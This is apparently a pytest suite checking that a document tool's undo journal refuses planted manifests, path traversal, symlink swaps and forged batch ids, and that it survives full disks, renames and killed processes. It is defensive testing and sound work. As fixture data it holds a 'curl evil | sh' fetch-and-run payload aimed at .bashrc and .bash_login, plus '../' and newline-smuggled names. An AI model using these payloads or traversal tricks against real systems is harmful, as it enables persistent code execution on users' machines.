"""The journal in a shared folder: whatever is planted in `.copydesk/`, and whatever happens
to an undo (killed, a full disk, the folder renamed), `copydesk undo` never writes outside the
folder, never claims what it did not do, and can always finish what it started.

Real files, real subprocesses (`python -m core.cli.main`), a real tmpfs for a full disk (ENOSPC
injected at the manifest's write only where mounting is impossible), an unprivileged uid for
an unreadable folder, and a file lease to stop an undo at a chosen file before killing it.
"""

from __future__ import annotations

import contextlib
import errno
import fcntl
import hashlib
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from core.config import Config, load_config
from core.document import load_corpus
from core.edit.ops import SetValue
from core.storage.files import acquire_lock, release_lock
from core.storage.journal import Journal
from core.storage.save import Change, plan_change, save_changes

TIMEOUT = 120
NOBODY = 65534

ARTICLE = """---
title: Original title {n}
description: 'A market report, number {n}.'
tags:
  - MARKET
draft: false
---
Body of article {n}.
"""


# `copydesk ARGS` as another user. The interpreter drops to that user itself, once what the
# command needs is imported: the interpreter's own files may be out of that user's reach.
AS_USER = """
import os, sys
import core.checks.fixes, core.cli.main, core.cli.commands.undo, core.storage.journal, core.storage.save
core.cli.main.build_parser()
uid = int(sys.argv[1])
os.setgroups([])
os.setgid(uid)
os.setuid(uid)
sys.exit(core.cli.main.main(sys.argv[2:]))
"""


def copydesk(*args: str, user: int | None = None) -> subprocess.CompletedProcess[str]:
    command = ["-m", "core.cli.main"] if user is None else ["-c", AS_USER, str(user)]
    return subprocess.run([sys.executable, *command, *args], capture_output=True, text=True, timeout=TIMEOUT, cwd="/")


def corpus(root: Path, count: int) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    (root / "copydesk.toml").write_text("")
    for n in range(count):
        (root / f"a{n:04d}.md").write_text(ARTICLE.format(n=n))
    return root


def snapshot(root: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(root.glob("*.md"))}


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def files_under(folder: Path) -> list[str]:
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*"))


def plant(
    root: Path, entries: list[list[object]], copies: list[bytes] = (), batch_id: str = "20990101-000000-beef", undoes: str | None = None
) -> str:
    """What a colleague with write access to the folder can do: a manifest of their own (the
    newest batch), with the copies it refers to."""
    journal = root / ".copydesk" / "journal"
    for data in copies:
        digest = sha(data)
        (journal / "blobs" / digest[:2]).mkdir(parents=True, exist_ok=True)
        (journal / "blobs" / digest[:2] / digest).write_bytes(data)
    (journal / "batches").mkdir(parents=True, exist_ok=True)
    ns = time.time_ns() + 10**12
    manifest = {"version": 2, "id": batch_id, "label": "set title=x", "time": "2099-01-01T00:00:00Z", "ns": ns, "undoes": undoes, "entries": entries}
    (journal / "batches" / f"{ns:020d}-{batch_id}.json").write_text(json.dumps(manifest))
    return batch_id


def manifest_order(root: Path, batch_id: str) -> list[str]:
    (path,) = (root / ".copydesk/journal/batches").glob(f"*-{batch_id}.json")
    return [entry[0] for entry in json.loads(path.read_text())["entries"]]


def listing(root: Path) -> dict[str, dict[str, object]]:
    result = copydesk("undo", "--list", "--format", "json", str(root))
    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr
    return {b["id"]: b for b in json.loads(result.stdout)}


def set_titles(root: Path) -> str:
    result = copydesk("set", "title=Changed title", str(root))
    assert result.returncode == 0, result.stderr
    (batch,) = [b for b in listing(root).values() if not b["undoes"]]
    return str(batch["id"])


# -- 3. a planted journal never writes outside the folder ---------------------------------------


@pytest.mark.parametrize("where", ["dotdot", "absolute"])
def test_3_planted_batch_naming_files_outside_the_folder_is_refused_whole(tmp_path: Path, where: str) -> None:
    root = corpus(tmp_path / "desk", 2)
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# mine\n")
    payload = b"curl evil | sh\n"
    outside = {"dotdot": "../home", "absolute": str(home)}[where]
    before = snapshot(root)
    batch_id = plant(
        root,
        [
            ["a0000.md", sha(b"old"), sha(before["a0000.md"])],  # an honest-looking entry comes first
            [f"{outside}/.bash_login", sha(payload), None],  # undo would create it
            [f"{outside}/.bashrc", sha(payload), sha(b"# mine\n")],  # undo would overwrite it
        ],
        [payload, b"old"],
    )

    result = copydesk("undo", str(root))
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert batch_id in result.stderr and "outside the folder" in result.stderr and "nothing was restored" in result.stderr
    assert files_under(home) == [".bashrc"] and (home / ".bashrc").read_text() == "# mine\n"
    assert snapshot(root) == before  # nothing of that batch was written
    info = listing(root)[batch_id]
    assert info["damaged"] and "outside the folder" in info["damaged"]
    again = copydesk("undo", batch_id, str(root))
    assert again.returncode == 1 and "damaged" in again.stderr and not (home / ".bash_login").exists()


def test_3_planted_batch_reaching_out_through_a_linked_folder_is_refused_whole(tmp_path: Path) -> None:
    root = corpus(tmp_path / "desk", 2)
    home = tmp_path / "home"
    home.mkdir()
    (root / "archive").symlink_to(home, target_is_directory=True)
    payload = b"curl evil | sh\n"
    before = snapshot(root)
    batch_id = plant(
        root,
        [["a0000.md", sha(b"old"), sha(before["a0000.md"])], ["archive/.bash_login", sha(payload), None]],
        [payload, b"old"],
    )

    result = copydesk("undo", str(root))
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert batch_id in result.stderr and "symbolic link leaving the folder" in result.stderr
    assert files_under(home) == []
    assert snapshot(root) == before  # a0000.md would have been restored: nothing of the batch is written


def test_3_a_link_inside_the_folder_is_not_written_through_and_the_batch_can_be_finished(tmp_path: Path) -> None:
    # A save never writes through a linked folder, even one pointing inside the folder; an
    # undo does not either: the file is named with the link, the rest of the batch is undone.
    root = corpus(tmp_path / "desk", 1)
    (root / "2025").mkdir()
    (root / "2025" / "a.md").write_bytes(b"old\n")
    (root / "latest").symlink_to(root / "2025", target_is_directory=True)
    top = (root / "a0000.md").read_bytes()
    batch_id = plant(root, [["latest/a.md", sha(b"old\n"), sha(b"new\n")], ["a0000.md", sha(b"top\n"), sha(top)]], [b"old\n", b"top\n"])
    (root / "2025" / "a.md").write_bytes(b"new\n")

    result = copydesk("undo", str(root))
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert f"latest/a.md: not restored (the folder latest is now a symbolic link (to {root / '2025'})" in result.stdout
    assert "a0000.md: restored" in result.stdout and (root / "a0000.md").read_bytes() == b"top\n"
    assert (root / "2025" / "a.md").read_bytes() == b"new\n"
    info = listing(root)[batch_id]
    assert not info["undone"] and info["partly_undone"]

    (root / "latest").unlink()  # the link replaced by the folder: the next undo finishes the batch
    (root / "2025").rename(root / "latest")
    again = copydesk("undo", str(root))
    assert again.returncode == 0, again.stdout + again.stderr
    assert (root / "latest" / "a.md").read_bytes() == b"old\n"
    assert listing(root)[batch_id]["undone"]


def batch_files(root: Path) -> list[dict[str, object]]:
    result = copydesk("undo", "--list", "--format", "json", str(root))
    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr
    return json.loads(result.stdout)


def test_3_a_planted_batch_with_the_id_of_a_real_one_is_named_and_undoes_nothing(tmp_path: Path) -> None:
    root = corpus(tmp_path / "desk", 2)
    before = snapshot(root)
    real = set_titles(root)
    edited = snapshot(root)
    plant(root, [["a0000.md", sha(b"curl evil | sh\n"), sha(edited["a0000.md"])]], [b"curl evil | sh\n"], batch_id=real)
    planted = sorted((root / ".copydesk/journal/batches").glob(f"*-{real}.json"))[-1]  # (its time is later)

    both = [b for b in batch_files(root) if b["id"] == real]
    assert len(both) == 2 and all("another batch file holds the same id" in str(b["damaged"]) for b in both)
    assert planted.name in str(both[1]["damaged"])  # the real one names the planted file
    result = copydesk("undo", real, str(root))
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert "ambiguous" not in result.stderr and planted.name in result.stderr and "nothing was restored" in result.stderr
    assert snapshot(root) == edited

    planted.unlink()  # the user moves aside the file they did not make: the real batch is undone
    again = copydesk("undo", real, str(root))
    assert again.returncode == 0, again.stderr
    assert snapshot(root) == before


def test_3_a_planted_undo_does_not_hide_a_real_batch(tmp_path: Path) -> None:
    root = corpus(tmp_path / "desk", 2)
    before = snapshot(root)
    real = set_titles(root)
    edited = snapshot(root)
    bogus = plant(root, [["a0000.md", sha(b"x"), sha(b"y")]], batch_id="20990101-000000-0001", undoes=real)

    info = listing(root)
    assert not info[real]["undone"] and info[real]["undone_by"] is None
    assert f"it says it undoes batch {real}, but its files do not match" in str(info[bogus]["damaged"])
    text = copydesk("undo", "--list", str(root)).stdout
    assert "damaged" in next(line for line in text.splitlines() if bogus in line)

    # A forgery copying the batch's own hashes cannot be told from an undo, but it is named.
    (manifest,) = (root / ".copydesk/journal/batches").glob(f"*-{real}.json")
    entries = [[path, new, prior] for path, prior, new, *_ in json.loads(manifest.read_text())["entries"]]
    forged = plant(root, entries, batch_id="20990101-000000-0002", undoes=real)
    info = listing(root)
    assert info[real]["undone"] and info[real]["undone_by"] == forged
    text = copydesk("undo", "--list", str(root)).stdout
    assert f"  undone by {forged}  " in next(line for line in text.splitlines() if line.startswith(real))
    refused = copydesk("undo", real, str(root))
    assert refused.returncode == 1 and f"already undone by batch {forged}" in refused.stderr
    assert snapshot(root) == edited

    for name in (bogus, forged):  # once moved aside, the real batch is undone
        next((root / ".copydesk/journal/batches").glob(f"*-{name}.json")).unlink()
    assert copydesk("undo", real, str(root)).returncode == 0
    assert snapshot(root) == before


LINKED = [".copydesk", ".copydesk/journal", ".copydesk/journal/batches", ".copydesk/journal/blobs", ".copydesk/journal/blobs/packs"]


@pytest.mark.parametrize("linked", LINKED)
def test_3_a_linked_journal_folder_is_refused_and_no_copy_leaves_the_folder(tmp_path: Path, linked: str) -> None:
    root = corpus(tmp_path / "desk", 3)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (root / linked).parent.mkdir(parents=True, exist_ok=True)
    (root / linked).symlink_to(elsewhere, target_is_directory=True)
    before = snapshot(root)

    result = copydesk("set", "title=Changed title", str(root))
    assert result.returncode == 1 and "Traceback" not in result.stderr + result.stdout
    assert "is a symbolic link" in result.stdout and "file untouched" in result.stdout
    assert snapshot(root) == before
    assert files_under(elsewhere) == []  # no copy of an article went through the link

    listed = copydesk("undo", "--list", str(root))
    assert "Traceback" not in listed.stderr
    if linked in LINKED[:3]:  # on the way to the manifests
        assert listed.returncode == 1 and "is a symbolic link" in listed.stderr


def test_3_a_state_folder_that_is_a_file_is_refused_with_a_clear_message(tmp_path: Path) -> None:
    root = corpus(tmp_path / "desk", 1)
    (root / ".copydesk").write_text("not a folder\n")
    before = snapshot(root)
    result = copydesk("set", "title=Changed title", str(root))
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert ".copydesk is not a folder" in result.stdout
    assert snapshot(root) == before
    listed = copydesk("undo", "--list", str(root))
    assert listed.returncode == 1 and ".copydesk is not a folder" in listed.stderr


def test_3_names_read_from_the_journal_never_lead_outside_it(tmp_path: Path) -> None:
    root = corpus(tmp_path / "desk", 1)
    home = tmp_path / "home"
    home.mkdir()
    victims = [home / "victim", home / "victim.pack", home / ".bashrc"]
    for victim in victims:
        victim.write_text("keep me\n")
        os.utime(victim, (0, 0))  # old enough to be swept
    journal = Journal(root, keep=1)
    journal.blob_grace_seconds = 0
    journal.gc_every = 1
    article = root / "a0000.md"
    batch = journal.begin("first")
    batch.record(article, article.read_bytes(), b"one\n")
    article.write_bytes(b"one\n")
    batch.written(article)
    batch.close()
    # Planted sweep list: names of "blobs" and "packs" that climb out of the journal, and a
    # batch id that would write a line of its own into it.
    up = os.path.relpath(home, journal.blobs / "packs")
    candidates = journal.gc_candidates
    candidates.write_text(f"pack:{up}/victim\n{os.path.relpath(home / 'victim', journal.folder)}\n# x\n")
    plant(root, [], batch_id="20990101-000000-0000")
    bad = root / ".copydesk/journal/batches" / f"{time.time_ns():020d}-x.json"
    bad.write_text(json.dumps({"id": "x\n../../evil", "label": "", "time": "", "ns": 1, "entries": []}))
    (home / "log").write_text("mine\n")
    for _ in range(2):  # two more batches: the oldest are pruned and the sweep runs
        batch = journal.begin("next")
        batch.record(article, article.read_bytes(), article.read_bytes() + b"x")
        article.write_bytes(article.read_bytes() + b"x")
        batch.written(article)
        batch.close()
    assert all(v.read_text() == "keep me\n" for v in victims)
    # The sweep list itself swapped for a link to a file of the user: never appended to.
    candidates.unlink()
    candidates.symlink_to(home / ".bashrc")
    batch = journal.begin("last")
    batch.record(article, article.read_bytes(), b"last\n")
    article.write_bytes(b"last\n")
    batch.written(article)
    batch.close()
    assert (home / ".bashrc").read_text() == "keep me\n"


# -- 4. an undo cut short is finished by the next one ---------------------------------------------


@contextlib.contextmanager
def leased(path: Path) -> Iterator[int]:
    """Hold a write lease on ``path``: another process opening it waits (up to the kernel's
    lease-break time) until the lease is given up: an undo stopped at a file of our choice."""
    previous = signal.signal(signal.SIGIO, signal.SIG_IGN)  # the lease-break notice
    fd = os.open(path, os.O_RDWR)
    try:
        fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_WRLCK)
        yield fd
    finally:
        with contextlib.suppress(OSError):
            fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_UNLCK)
        os.close(fd)
        signal.signal(signal.SIGIO, previous)


def wait_until_opened(fd: int, proc: subprocess.Popen[str]) -> None:
    """Until the process tries to open the leased file (the kernel starts breaking the lease)."""
    deadline = time.monotonic() + TIMEOUT
    while fcntl.fcntl(fd, fcntl.F_GETLEASE) == fcntl.F_WRLCK:
        assert proc.poll() is None, proc.communicate()
        assert time.monotonic() < deadline, "the undo never reached the leased file"
        time.sleep(0.002)


def start_undo(root: Path) -> subprocess.Popen[str]:
    return subprocess.Popen([sys.executable, "-m", "core.cli.main", "undo", str(root)], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


needs_leases = pytest.mark.skipif(not hasattr(fcntl, "F_SETLEASE"), reason="file leases (Linux) stop the undo at a chosen file")


@needs_leases
def test_4_an_undo_killed_midway_is_finished_by_the_next_undo(tmp_path: Path) -> None:
    root = corpus(tmp_path / "desk", 300)
    before = snapshot(root)
    batch_id = set_titles(root)
    edited = snapshot(root)
    order = manifest_order(root, batch_id)

    with leased(root / order[120]) as fd:
        proc = start_undo(root)
        wait_until_opened(fd, proc)
        # (read without the leased file: opening it would wait for the lease too)
        now = {name: (root / name).read_bytes() for name in order if name != order[120]}
        proc.send_signal(signal.SIGKILL)
        proc.communicate(timeout=TIMEOUT)
    assert [name for name in order if now.get(name) == before[name]] == order[:120]
    assert snapshot(root) == {**now, order[120]: edited[order[120]]}

    # The batch is not done: listed as partly undone, and a plain `undo` picks it again.
    info = listing(root)
    assert not info[batch_id]["undone"] and info[batch_id]["partly_undone"]
    (killed,) = [b for b in info.values() if b["undoes"] == batch_id]
    assert killed["incomplete"]
    result = copydesk("undo", str(root))
    assert result.returncode == 0, result.stderr
    assert sorted(line for line in result.stdout.splitlines() if line.endswith(": restored")) == sorted(f"{n}: restored" for n in order[120:])
    assert sum(line.endswith("already as before the batch") for line in result.stdout.splitlines()) == 120
    assert "180 files restored, 120 already as before" in result.stderr
    assert snapshot(root) == before

    info = listing(root)
    assert info[batch_id]["undone"]
    (undo,) = [b for b in info.values() if b["undoes"] == batch_id]  # the killed attempt is folded in
    assert len(undo["files"]) == 300 and not undo["incomplete"]
    assert copydesk("undo", str(root)).stderr.startswith("copydesk undo: nothing to undo")
    # Undoing the undo brings back every edit, those of the killed attempt included.
    redo = copydesk("undo", str(undo["id"]), str(root))
    assert redo.returncode == 0, redo.stderr
    assert snapshot(root) == edited


def save(journal: Journal, label: str, files: dict[Path, bytes]) -> str:
    batch = journal.begin(label)
    for path, data in files.items():
        batch.record(path, path.read_bytes(), data)
        path.write_bytes(data)
        batch.written(path)
    batch_id = batch.close()
    assert batch_id
    return batch_id


def test_4_an_undo_that_could_not_restore_a_file_is_finished_by_the_next(tmp_path: Path) -> None:
    root = corpus(tmp_path, 3)
    before = snapshot(root)
    paths = sorted(root.glob("*.md"))
    journal = Journal(root)
    batch_id = save(journal, "edit", {p: p.read_bytes() + b"edited\n" for p in paths})
    edited = snapshot(root)

    lock = acquire_lock(paths[1])  # a colleague's copydesk is saving that file
    try:
        first = journal.undo()
    finally:
        release_lock(lock)
    assert sorted(first.restored) == [paths[0].name, paths[2].name]
    assert [p for p, _ in first.failed] == [paths[1].name]
    (info,) = [b for b in journal.list() if b.id == batch_id]
    assert not info.undone and info.partly_undone

    second = journal.undo()  # the same batch again: it was not done
    assert second.batch_id == batch_id and second.restored == [paths[1].name]
    assert sorted(second.already) == [paths[0].name, paths[2].name]
    assert snapshot(root) == before
    listed = journal.list()
    assert [b.id for b in listed if b.undoes == batch_id] == [second.undo_batch_id]
    assert next(b for b in listed if b.id == batch_id).undone
    journal.undo(second.undo_batch_id)  # the redo puts back all three files
    assert snapshot(root) == edited


# -- 3. a folder swapped for a link during an undo is never written through -------------------


SWAPPED = {"sub/a.md": (b"prior a\n", b"new a\n"), "sub/made.md": (None, b"made by the batch\n"), "sub/b.md": (b"prior b\n", b"new b\n")}
SWAPPED_LATER = {"later/c.md": (b"prior c\n", b"new c\n"), "later/made.md": (None, b"made too\n")}


def swap_for_link(root: Path, outside: Path, folder: str) -> None:
    """A colleague's move: folder ``folder`` of the corpus moved aside and replaced by a link
    to a folder outside holding files of the same names."""
    (root / folder).rename(root / f"{folder}-moved")
    (root / folder).symlink_to(outside / folder, target_is_directory=True)


@needs_leases
@pytest.mark.parametrize("first", ["sub/a.md", "sub/made.md"])
def test_3_a_folder_swapped_for_a_link_during_an_undo_is_never_written_through(tmp_path: Path, first: str) -> None:
    # The undo is stopped at its first file (`first`: one it restores, or one the batch
    # created, which it removes) after it checked the batch and took the file's lock; the
    # folder is swapped for a link to a folder outside meanwhile. Nothing outside is written
    # or deleted: that file and its neighbours are restored in the folder the undo opened
    # (moved aside), and a folder swapped before the undo reached it is refused, naming the link.
    root = corpus(tmp_path / "desk", 0)
    outside = tmp_path / "home"
    files = {**SWAPPED, **SWAPPED_LATER}
    for rel, (_, new) in files.items():
        for base in (root, outside):
            (base / rel).parent.mkdir(parents=True, exist_ok=True)
            (base / rel).write_bytes(new)  # outside: what an undo through the link would find
    (outside / "sub" / ".bashrc").write_text("# mine\n")
    kept = {rel: (root / rel).read_bytes() for rel in files}
    before_outside = {p: p.read_bytes() for p in sorted(outside.rglob("*")) if p.is_file()}
    order = [first, *(rel for rel in files if rel != first)]
    batch_id = plant(
        root,
        [[rel, sha(files[rel][0]) if files[rel][0] is not None else None, sha(files[rel][1])] for rel in order],
        [prior for prior, _ in files.values() if prior is not None],
    )

    with leased(root / first) as fd:
        proc = start_undo(root)
        wait_until_opened(fd, proc)  # checked, locked, opening the file
        swap_for_link(root, outside, "sub")
        swap_for_link(root, outside, "later")
    out, err = proc.communicate(timeout=TIMEOUT)
    assert "Traceback" not in err, err

    assert {p: p.read_bytes() for p in sorted(outside.rglob("*")) if p.is_file()} == before_outside
    assert proc.returncode == 1, out + err
    for rel in SWAPPED:
        assert f"{rel}: restored" in out
    for rel in SWAPPED_LATER:
        assert f"{rel}: not restored (the folder later is now a symbolic link (to {outside / 'later'})" in out
    moved = root / "sub-moved"
    assert (moved / "a.md").read_bytes() == b"prior a\n" and (moved / "b.md").read_bytes() == b"prior b\n"
    assert not (moved / "made.md").exists()
    assert {rel: (root / "later-moved" / rel.split("/")[1]).read_bytes() for rel in SWAPPED_LATER} == {
        rel: kept[rel] for rel in SWAPPED_LATER
    }
    info = listing(root)[batch_id]
    assert not info["undone"] and info["partly_undone"]  # to be finished once the folder is back

    for folder in ("sub", "later"):
        (root / folder).unlink()
        (root / f"{folder}-moved").rename(root / folder)
    again = copydesk("undo", str(root))
    assert again.returncode == 0, again.stdout + again.stderr
    assert (root / "later/c.md").read_bytes() == b"prior c\n" and not (root / "later/made.md").exists()
    assert listing(root)[batch_id]["undone"]
    assert {p: p.read_bytes() for p in sorted(outside.rglob("*")) if p.is_file()} == before_outside


# -- 7. faults: a full disk, the folder renamed, an unreadable or damaged journal ------------------


@pytest.fixture
def tmpfs() -> Iterator[Callable[[Path, str], bool]]:
    mounted: list[Path] = []

    def mount(path: Path, size: str) -> bool:
        result = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(path)], capture_output=True)
        if result.returncode == 0:
            mounted.append(path)
        return result.returncode == 0

    yield mount
    for path in reversed(mounted):
        subprocess.run(["umount", "-l", str(path)], check=False)


def fill(folder: Path) -> None:
    """Take every free byte of the file system holding ``folder``."""
    with open(folder / ".filler", "wb") as handle:
        try:
            while True:
                handle.write(b"\0" * 65536)
                handle.flush()
        except OSError as exc:
            assert exc.errno == errno.ENOSPC
    with contextlib.suppress(OSError), open(folder / ".filler2", "wb") as handle:
        while True:
            handle.write(b"\0" * 512)
            handle.flush()


def plan_titles(root: Path) -> tuple[Config, list[Change]]:
    config = load_config(root)
    corpus_ = load_corpus([root], config)
    return config, [plan_change(a, [SetValue(("title",), "Changed title")]) for a in corpus_.articles]


def test_7_a_full_disk_when_the_manifest_is_written_leaves_every_written_file_undoable(
    tmp_path: Path, tmpfs: Callable[[Path, str], bool], monkeypatch: pytest.MonkeyPatch
) -> None:
    root = corpus(tmp_path / "desk", 20)
    before = snapshot(root)
    batches = root / ".copydesk" / "journal" / "batches"
    batches.mkdir(parents=True)
    on_tmpfs = tmpfs(batches, "64k")
    if not on_tmpfs and os.environ.get("CI") and os.geteuid() == 0:
        pytest.fail("mount -t tmpfs failed as root in CI")

    def full() -> None:
        if on_tmpfs:
            fill(batches)
        else:  # no tmpfs without root: the manifest's write is the one to fail
            def no_space(*args: object) -> None:
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

            monkeypatch.setattr(Journal, "_write_manifest", no_space)

    config, changes = plan_titles(root)
    results = save_changes(changes, config=config, label="set title", progress=lambda done, total: done == total and full())
    assert [r.status for r in results] == ["saved"] * 20  # all written before the disk filled up
    edited = snapshot(root)
    assert edited != before and all(data.count(b"Changed title") == 1 for data in edited.values())

    (info,) = Journal(root).list()  # still undoable, though its manifest could not be written
    assert info.incomplete and len(info.files) == 20
    monkeypatch.undo()
    for leftover in batches.glob(".filler*"):
        leftover.unlink()
    report = Journal(root).undo()
    assert len(report.restored) == 20 and not report.failed
    assert snapshot(root) == before


# `copydesk ARGS` on a disk with no space left for the journal, where no tmpfs can be mounted:
# every write into the journal (its log, its pack) fails as a full disk's does.
NO_SPACE = """
import errno, os, sys
import core.cli.main, core.storage.journal
def no_space(*args):
    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
core.storage.journal.write_all = no_space
sys.exit(core.cli.main.main(sys.argv[1:]))
"""


def test_7_a_full_disk_from_the_start_writes_nothing_and_says_so(tmp_path: Path, tmpfs: Callable[[Path, str], bool]) -> None:
    root = corpus(tmp_path / "desk", 5)
    before = snapshot(root)
    batches = root / ".copydesk" / "journal" / "batches"
    batches.mkdir(parents=True)
    if tmpfs(batches, "16k"):
        fill(batches)
        result = copydesk("set", "title=Changed title", str(root))
    elif os.environ.get("CI") and os.geteuid() == 0:
        pytest.fail("mount -t tmpfs failed as root in CI")
    else:
        args = [sys.executable, "-c", NO_SPACE, "set", "title=Changed title", str(root)]
        result = subprocess.run(args, capture_output=True, text=True, timeout=TIMEOUT, cwd="/")
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert result.stdout.count("refused (cannot write the journal, file untouched: No space left on device)") == 5
    assert snapshot(root) == before


RENAMING_SAVER = """
import json, sys
from pathlib import Path
sys.path.insert(0, sys.argv[3])
from test_journal_hostile import plan_titles
from core.storage.save import save_changes
root, moved = Path(sys.argv[1]), Path(sys.argv[2])
config, changes = plan_titles(root)
def progress(done, total):
    if done == 5:
        root.rename(moved)  # a colleague renames the folder
results = save_changes(changes, config=config, label="set title", progress=progress)
print(json.dumps([[r.path.name, r.status, r.message] for r in results]))
"""


def test_7_the_folder_renamed_during_a_batch_leaves_what_was_written_undoable(tmp_path: Path) -> None:
    # A save writes in the folders it opened (they move with the rename), so every file
    # lands in the renamed folder; the journal's manifest, written by name at the end, does
    # not: the batch stays as its log, and every result says so.
    root = corpus(tmp_path / "desk", 40)
    before = snapshot(root)
    moved = tmp_path / "desk-renamed"
    proc = subprocess.run(
        [sys.executable, "-c", RENAMING_SAVER, str(root), str(moved), str(Path(__file__).parent)],
        capture_output=True,
        text=True,
        timeout=TIMEOUT,
    )
    assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr
    results = json.loads(proc.stdout)
    assert sorted(name for name, status, _ in results if status == "saved") == sorted(before)
    for _, _, message in results:
        assert "the journal could not finish its record" in message and "was the folder moved or renamed?" in message
        assert "the 40 files written are in its log" in message
    assert not root.exists()  # nothing was recreated at the old name
    after = snapshot(moved)
    assert all(after[n] != before[n] and after[n].count(b"Changed title") == 1 for n in before)

    (info,) = listing(moved).values()
    assert info["incomplete"] and not info["undone"] and sorted(info["files"]) == sorted(before)
    result = copydesk("undo", str(moved))
    assert result.returncode == 0, result.stderr
    assert sorted(line.split(":")[0] for line in result.stdout.splitlines() if line.endswith(": restored")) == sorted(before)
    assert snapshot(moved) == before
    assert listing(moved)[info["id"]]["undone"]


@needs_leases
def test_7_the_folder_renamed_during_an_undo_is_reported_and_the_next_undo_finishes(tmp_path: Path) -> None:
    root = corpus(tmp_path / "desk", 40)
    before = snapshot(root)
    batch_id = set_titles(root)
    order = manifest_order(root, batch_id)
    moved = tmp_path / "desk-renamed"

    with leased(root / order[10]) as fd:
        proc = start_undo(root)
        wait_until_opened(fd, proc)
        root.rename(moved)
    out, err = proc.communicate(timeout=TIMEOUT)
    assert proc.returncode == 1 and "Traceback" not in err, err
    assert sum(line.endswith(": restored") for line in out.splitlines()) == 10
    assert "moved or renamed?" in out, out
    assert "was the folder moved or renamed?" in err and "copydesk undo" in err

    result = copydesk("undo", str(moved))
    assert result.returncode == 0, result.stderr
    assert snapshot(moved) == before
    assert listing(moved)[batch_id]["undone"]


@pytest.fixture
def shared_folder() -> Iterator[Path]:
    """A folder another user can reach (pytest's own is private to its user)."""
    folder = Path(tempfile.mkdtemp(prefix="copydesk-shared-"))
    folder.chmod(0o755)
    try:
        yield folder
    finally:
        shutil.rmtree(folder, ignore_errors=True)


def test_7_an_unreadable_journal_folder_is_reported_not_a_traceback(shared_folder: Path) -> None:
    root = corpus(shared_folder / "desk", 2)
    for path in [root, *root.iterdir()]:
        path.chmod(0o755 if path.is_dir() else 0o644)
    set_titles(root)
    for folder in (root / ".copydesk", root / ".copydesk/journal"):
        folder.chmod(0o755)
    batches = root / ".copydesk/journal/batches"
    batches.chmod(0o700 if os.geteuid() == 0 else 0o000)  # root is refused nothing: read as nobody
    user = NOBODY if os.geteuid() == 0 else None
    try:
        for args in (["undo", "--list"], ["undo", "--list", "--format", "json"], ["undo"]):
            result = copydesk(*args, str(root), user=user)
            assert result.returncode == 1, (args, result.stderr)
            assert "Traceback" not in result.stderr
            assert f"cannot read the journal folder {batches}: Permission denied" in result.stderr
            if "json" in args:
                assert "Permission denied" in json.loads(result.stdout)["error"]
    finally:
        batches.chmod(0o755)


def test_7_a_damaged_manifest_is_listed_as_damaged_and_refused(tmp_path: Path) -> None:
    root = corpus(tmp_path / "desk", 2)
    older = set_titles(root)
    edited = snapshot(root)
    ns = time.time_ns() + 10**12
    damaged = root / ".copydesk/journal/batches" / f"{ns:020d}-20990101-000000-dead.json"
    damaged.write_text('{"version": 2, "id": "20990101-000000-dead", "entries": [')  # cut short

    text = copydesk("undo", "--list", str(root))
    assert text.returncode == 0
    (line,) = [line for line in text.stdout.splitlines() if "20990101-000000-dead" in line]
    assert "damaged" in line and "cannot be undone" in line
    info = listing(root)
    assert info["20990101-000000-dead"]["damaged"] and not info[older]["damaged"]

    for args in (["undo"], ["undo", "20990101-000000-dead"]):
        result = copydesk(*args, str(root))
        assert result.returncode == 1 and "Traceback" not in result.stderr
        assert "20990101-000000-dead" in result.stderr and "damaged" in result.stderr
        assert snapshot(root) == edited  # nothing undone in its place
    assert copydesk("undo", older, str(root)).returncode == 0  # the others still can be
